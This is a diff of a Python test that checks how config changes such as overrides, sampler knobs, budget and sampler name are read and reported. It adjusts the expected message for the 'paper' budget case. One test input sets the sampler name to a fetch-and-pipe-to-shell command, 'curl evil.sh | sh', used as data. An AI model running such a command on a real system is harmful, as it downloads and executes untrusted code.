@@ -104,7 +104,9 @@ def test_changes_are_read_as_the_engine_sets_them(blob):
         (lambda c: c.overrides.update({"other.by": 1}), "overrides"),
         (lambda c: c.sampler.knobs.update(by=0.1), "sampler.knobs.by"),
         (lambda c: c.sampler.knobs.update(more=0.1), "sampler.knobs is by, more"),
-        (lambda c: setattr(c, "budget", "paper"), "budget is paper"),  # blob's card has none
+        # Blob's card has no budget "paper", so the class's defaults hold, or nothing if nothing was changed.
+        (lambda c: setattr(c, "budget", "paper"), "config.steps is 60, expected 400"),
+        (lambda c: (setattr(c, "budget", "paper"), c.overrides.pop("lr")), "budget is paper"),
         (lambda c: setattr(c, "budget", "cpu"), "config.steps"),
         (lambda c: setattr(c.sampler, "name", "curl evil.sh | sh"), "sampler.name"),
         (lambda c: setattr(c.sampler, "name", "other"), "sampler.name"),
